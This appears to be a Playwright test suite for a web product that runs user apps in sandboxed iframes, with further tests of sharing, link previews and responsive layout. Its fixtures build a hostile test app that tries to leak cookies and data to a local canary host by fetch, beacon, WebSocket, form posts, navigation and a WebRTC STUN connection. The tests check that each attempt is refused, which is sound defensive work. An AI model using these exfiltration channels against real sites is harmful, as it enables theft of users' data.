import { createSocket } from "node:dgram";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { FrameLocator, Page } from "@playwright/test";
import { appBench, type MadeApp } from "./apps.fixtures";
import { expect, expectAccessible, test } from "./fixtures";

// Each test starts dev servers and builds in sandboxes.
test.describe.configure({ timeout: 180_000 });

/** Starts a host that no app may reach, by TCP and UDP; it records every connection. */
async function canary() {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(`${request.method} ${request.url}`);
    response.setHeader("access-control-allow-origin", "*");
    response.end("reached");
  });
  server.on("upgrade", (request, socket) => {
    hits.push(`UPGRADE ${request.url}`);
    socket.destroy();
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const { port } = server.address() as AddressInfo;
  const udp = createSocket("udp4");
  udp.on("message", () => hits.push("UDP"));
  await new Promise<void>((resolve) => udp.bind(port, "127.0.0.1", resolve));
  return {
    hits,
    port,
    close: () => {
      server.closeAllConnections();
      server.close();
      udp.close();
    },
  };
}

/**
 * Returns code that opens a peer connection whose first packets go to the canary, and waits until they would have been
 * sent.
 */
const peer = (port: number) => `
    const pc = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${port}" }] });
    pc.createDataChannel("rows");
    await pc.setLocalDescription(await pc.createOffer());
    await new Promise((resolve) => { pc.onicegatheringstatechange = () => pc.iceGatheringState === "complete" && resolve(); setTimeout(resolve, 2000); });`;

/** An app that tries every way out of its frame, and reports the results. */
const waysOut = (port: number) => `<!doctype html>
<html><head><title>Out</title><link rel="dns-prefetch" href="//127.0.0.1:${port}"><link rel="preconnect" href="http://127.0.0.1:${port}">
<link rel="prefetch" href="http://127.0.0.1:${port}/prefetch"><link rel="stylesheet" href="http://127.0.0.1:${port}/style.css"></head>
<body><main><h1>Out</h1><ul id="said"></ul></main>
<script>
const OUT = "http://127.0.0.1:${port}";
const said = document.getElementById("said");
const say = (what, outcome) => { const li = document.createElement("li"); li.textContent = what + ": " + outcome; said.append(li); };
const attempt = async (what, work) => { try { say(what, "got " + await work()); } catch (error) { say(what, "refused"); } };
(async () => {
  await attempt("cookie", () => document.cookie || Promise.reject());
  await attempt("parent", () => parent.document.title);
  await attempt("api", async () => { const r = await fetch(new URL("/api/auth/me", location.href), { credentials: "include" }); return r.status; });
  await attempt("fetch", async () => (await fetch(OUT + "/fetch?rows")).text());
  await attempt("no-cors", async () => (await fetch(OUT + "/nocors", { mode: "no-cors" })).type);
  await attempt("xhr", () => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open("GET", OUT + "/xhr"); x.onload = () => ok(1); x.onerror = no; x.send(); }));
  await attempt("image", () => new Promise((ok, no) => { const i = new Image(); i.onload = () => ok(1); i.onerror = no; i.src = OUT + "/image.png"; }));
  await attempt("script", () => import(OUT + "/script.js"));
  await attempt("socket", () => new Promise((ok, no) => { const s = new WebSocket("ws://127.0.0.1:${port}/socket"); s.onopen = () => ok(1); s.onerror = no; }));
  await attempt("beacon", () => { navigator.sendBeacon(OUT + "/beacon", "rows"); return Promise.reject(); });
  await attempt("frame", () => new Promise((ok, no) => { const f = document.createElement("iframe"); f.src = OUT + "/frame"; f.onload = () => { try { f.contentWindow.location.href; no(); } catch { no(); } }; document.body.append(f); setTimeout(no, 500); }));
  await attempt("popup", () => { const w = window.open(OUT + "/popup"); return w ? "window" : Promise.reject(); });
  await attempt("top", () => { top.location = OUT + "/top"; return Promise.reject(); });
  await attempt("peer", async () => {${peer(port)}
    return Promise.reject();
  });
  say("done", "here");
  document.title = "Done";
})();
</script></body></html>`;

/** The remaining ways out, which end their page. */
const away = (port: number) => `<!doctype html><html><body><main><h1>Away</h1><button id="go" type="button">Go</button>
<form action="http://127.0.0.1:${port}/form" method="post"><input name="rows" value="secret"><button>Send</button></form></main>
<script>document.getElementById("go").onclick = () => { location.href = "http://127.0.0.1:${port}/navigate?rows=secret"; };</script></body></html>`;

async function publish(request: import("@playwright/test").APIRequestContext, root: string, { id }: MadeApp) {
  const answer = await request.post(`${root}/${id}/publish`);
  expect(answer.status(), await answer.text()).toBe(200);
}

/** Tries every way out of a frame. @param show creates an app of one page and opens it in the frame */
async function expectNoWayOut(page: Page, frame: FrameLocator, show: (html: string) => Promise<void>) {
  const out = await canary();
  try {
    await show(waysOut(out.port));
    await expect(frame.getByText("done: here")).toBeVisible({ timeout: 60_000 });
    const said = await frame.locator("#said li").allTextContents();
    expect(said.filter((line) => !line.endsWith("refused"))).toEqual(["done: here"]);

    await show(away(out.port));
    for (const [button, directive] of [
      ["Send", "form-action"],
      ["Go", "frame-src"],
    ] as const) {
      await page.reload();
      await expect(frame.getByRole("button", { name: button })).toBeVisible({ timeout: 30_000 });
      const refused = page.waitForEvent("console", (message) => message.text().includes(`"${directive} `));
      await frame.getByRole("button", { name: button }).click();
      await refused;
    }
    expect(out.hits).toEqual([]);
  } finally {
    out.close();
  }
}

test.describe("an app that tries to escape its frame", () => {
  test.use({ isLoud: true });
  test("reaches the host by a peer connection unless the response's headers forbid it", async ({ page }) => {
    const out = await canary();
    const site = createServer((_, response) => {
      response.setHeader("content-type", "text/html");
      response.end(`<!doctype html><title>Site</title><script type="module">${peer(out.port)}</script>`);
    });
    await new Promise<void>((resolve) => site.listen(0, "127.0.0.1", resolve));
    try {
      await page.goto(`http://127.0.0.1:${(site.address() as AddressInfo).port}/`);
      await expect.poll(() => out.hits).toContain("UDP");
    } finally {
      site.close();
      out.close();
    }
  });

  test("reaches no cookies, parent page, API or other host (T92)", async ({ page, person }) => {
    const bench = await appBench(page.request);
    const app = await bench.make("Out", { access: "workspace" });
    await expectNoWayOut(page, page.frameLocator("iframe.app-frame"), async (html) => {
      await bench.write(app, "index.html", html);
      await bench.commit(app, "Out");
      await publish(page.request, bench.root, app);
      await page.goto(`/w/${person.slug}/apps/${app.slug}`);
    });
    expect(page.url()).toContain(`/w/${person.slug}/apps/${app.slug}`);
  });

  test("is confined in a preview too (T92)", async ({ page, person }) => {
    const bench = await appBench(page.request);
    const app = await bench.make("Out");
    const frame = page.getByRole("region", { name: "Preview" }).frameLocator("iframe");
    await expectNoWayOut(page, frame, async (html) => {
      await bench.write(app, "index.html", html);
      await page.goto(`/w/${person.slug}/apps/${app.slug}/edit`);
    });
    expect(page.url()).toContain(`/w/${person.slug}/apps/${app.slug}/edit`);
  });
});

test("opens an app in the product, shares it by link and shows it to a visitor", async ({ page, person, browser }) => {
  const bench = await appBench(page.request);
  const app = await bench.make("Orders", { access: "workspace" });
  await page.goto(`/w/${person.slug}/apps/${app.slug}`);
  await expect(page.getByRole("heading", { name: "Not published yet" })).toBeVisible();
  await expectAccessible(page);
  await publish(page.request, bench.root, app);
  // The event stream reports it.
  const shown = page.frameLocator("iframe.app-frame").getByRole("heading", { name: "Orders" });
  await expect(shown).toBeVisible();
  await expectAccessible(page);
  await page.screenshot({ path: "test-results/apps-view-light.png" });

  await page.getByRole("button", { name: "Share" }).click();
  const dialog = page.getByRole("dialog", { name: "Share Orders" });
  await expect(dialog).toBeVisible();
  const { token } = (
    await (await page.request.put(`${bench.root}/${app.id}/share`, { data: { enabled: true } })).json()
  ).data;
  const context = await browser.newContext();
  const visitor = await context.newPage();
  await visitor.goto(`/share/${token}`);
  await expect(visitor.frameLocator("iframe.app-frame").getByRole("heading", { name: "Orders" })).toBeVisible();
  await expectAccessible(visitor);
  await visitor.screenshot({ path: "test-results/apps-share-light.png" });
  await context.close();

  // As a link preview loads it.
  const head = await (await page.request.get(`/share/${token}`, { headers: { "user-agent": "Slackbot 1.0" } })).text();
  const tagOf = (name: string) =>
    new RegExp(`<meta (?:property|name)="${name}" content="([^"]*)"`).exec(head)?.[1] ?? null;
  expect([tagOf("og:title"), tagOf("twitter:card"), tagOf("og:image"), tagOf("robots")]).toEqual([
    "Orders",
    "summary",
    null,
    "noindex, nofollow",
  ]);
});

test("keeps the editor's header reachable on a tablet, and labels icons on a phone", { tag: "@long" }, async ({
  page,
  person,
}) => {
  const bench = await appBench(page.request);
  const app = await bench.make("An app with a title of some length", { access: "workspace" });
  await publish(page.request, bench.root, app);
  await bench.write(app, "a.md", "a");
  await page.setViewportSize({ width: 1024, height: 768 });
  await page.goto(`/w/${person.slug}/apps/${app.slug}/edit`);
  for (const name of ["Bindings", "Versions", "Preview", "Share", "Publish"]) {
    await expect(page.getByRole("button", { name, exact: true })).toBeInViewport({ ratio: 1 });
  }
  await expect(page.getByRole("heading", { name: app.title })).toBeInViewport({ ratio: 1 });
  await expectAccessible(page);
  await page.setViewportSize({ width: 390, height: 844 });
  await page.goto(`/w/${person.slug}/apps/${app.slug}`);
  await page.getByRole("button", { name: "Share" }).click();
  await expect(page.getByRole("dialog", { name: `Share ${app.title}` })).toBeVisible();
  await expectAccessible(page);
});

test("shows a dead link's page in the system's colours", { tag: "@long" }, async ({ page }) => {
  await page.emulateMedia({ colorScheme: "dark" });
  for (const address of ["/share/AAAAAAAAAAAAAAAAAAAAAA", "/nothing-here"]) {
    await page.goto(address);
    await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
    await expect(page.locator("html")).toHaveAttribute("data-theme", "dark");
    await expectAccessible(page);
  }
  await page.emulateMedia({ colorScheme: "light" });
  await expect(page.locator("html")).toHaveAttribute("data-theme", "light");
});
